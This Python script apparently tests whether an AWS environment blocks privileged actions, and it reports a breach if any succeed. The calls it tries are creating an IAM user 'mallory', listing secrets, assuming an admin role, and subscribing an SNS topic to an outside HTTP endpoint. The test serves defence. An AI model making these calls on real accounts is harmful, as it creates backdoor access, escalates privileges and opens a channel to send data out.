import boto3
from botocore.config import Config
from botocore.exceptions import BotoCoreError, ClientError
from honest import breach, lambda_handler

ONCE = Config(retries={"max_attempts": 0}, connect_timeout=1, read_timeout=2)
CALLS = [
    ("iam", "create_user", {"UserName": "mallory"}),
    ("secretsmanager", "list_secrets", {}),
    ("sts", "assume_role", {"RoleArn": "arn:aws:iam::123456789012:role/admin", "RoleSessionName": "me"}),
    (
        "sns",
        "subscribe",
        {"TopicArn": "arn:aws:sns:us-east-1:123456789012:t", "Protocol": "http", "Endpoint": "http://192.0.2.1/"},
    ),
]
for service, operation, parameters in CALLS:
    try:
        getattr(boto3.client(service, config=ONCE), operation)(**parameters)
        breach(f"{service}.{operation}")
    except (ClientError, BotoCoreError):
        pass
